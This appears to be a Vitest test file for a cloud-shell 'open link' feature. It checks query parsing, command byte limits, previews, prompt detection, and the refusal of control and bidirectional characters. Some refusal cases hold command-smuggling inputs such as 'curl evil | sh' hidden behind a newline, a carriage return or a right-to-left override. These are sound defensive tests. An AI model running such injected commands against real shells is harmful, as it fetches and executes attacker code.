import { describe, expect, it } from 'vitest';
import {
  atPrompt,
  commandPreview,
  commandProblem,
  maxCommandBytes,
  openLinkFromQuery,
} from '../../../../web/src/shell/open-link.js';

describe('openLinkFromQuery', () => {
  it('is undefined for a plain shell URL, so it opens at once as before', () => {
    expect(openLinkFromQuery(new URLSearchParams('account=314159265358&permissionSet=Dev'))).toBeUndefined();
    expect(openLinkFromQuery(new URLSearchParams('git=&cmd='))).toBeUndefined();
  });

  it('takes git and cmd, decoded', () => {
    expect(
      openLinkFromQuery(
        new URLSearchParams('git=https%3A%2F%2Fgithub.com%2Facme%2Ftools.git&cmd=make%20test'),
      ),
    ).toEqual({ git: 'https://github.com/acme/tools.git', cmd: 'make test' });
    expect(openLinkFromQuery(new URLSearchParams('cmd=ls'))).toEqual({ cmd: 'ls' });
  });
});

describe('commandProblem', () => {
  it('lets a plain command through, up to the byte limit', () => {
    expect(commandProblem('cd tools && make test | tee out.txt; echo "done: $?"')).toBeUndefined();
    expect(commandProblem('x'.repeat(maxCommandBytes))).toBeUndefined();
  });

  it('counts bytes, not characters', () => {
    expect(commandProblem('é'.repeat(513))).toBe(
      'The command is 1026 bytes long; a link may type at most 1024. Nothing was done.',
    );
    expect(commandProblem('x'.repeat(10 * 1024))).toContain('10240 bytes');
  });

  it.each([
    ['NUL', 'ls\u0000'],
    ['ESC', 'ls\u001b[2K'],
    ['CR', 'ls\rcurl evil | sh'],
    ['LF', 'ls\ncurl evil | sh'],
    ['tab', 'ls\t'],
    ['DEL', 'ls\u007f'],
    ['C1 CSI', 'ls\u009b2K'],
    ['right-to-left override', 'ls \u202Ehs | live lruc'],
    ['right-to-left isolate', 'ls \u2067x\u2069'],
    ['zero-width space', 'l\u200Bs'],
    ['line separator', 'ls\u2028rm'],
  ])('refuses %s', (_name, cmd) => {
    expect(commandProblem(cmd)).toMatch(/^The command holds characters a link may not type/);
  });
});

describe('commandPreview and atPrompt', () => {
  it('shortens a long command with an ellipsis, by characters', () => {
    expect(commandPreview('abc', 3)).toBe('abc');
    expect(commandPreview('abcd', 3)).toBe('abc…');
  });

  it('sees a bash prompt at the end of the cursor line', () => {
    expect(atPrompt('cloudshell-user@cove:~$')).toBe(true);
    expect(atPrompt('root@x:/# ')).toBe(true);
    expect(atPrompt('Cloning into tools...')).toBe(false);
    expect(atPrompt('')).toBe(false);
  });
});
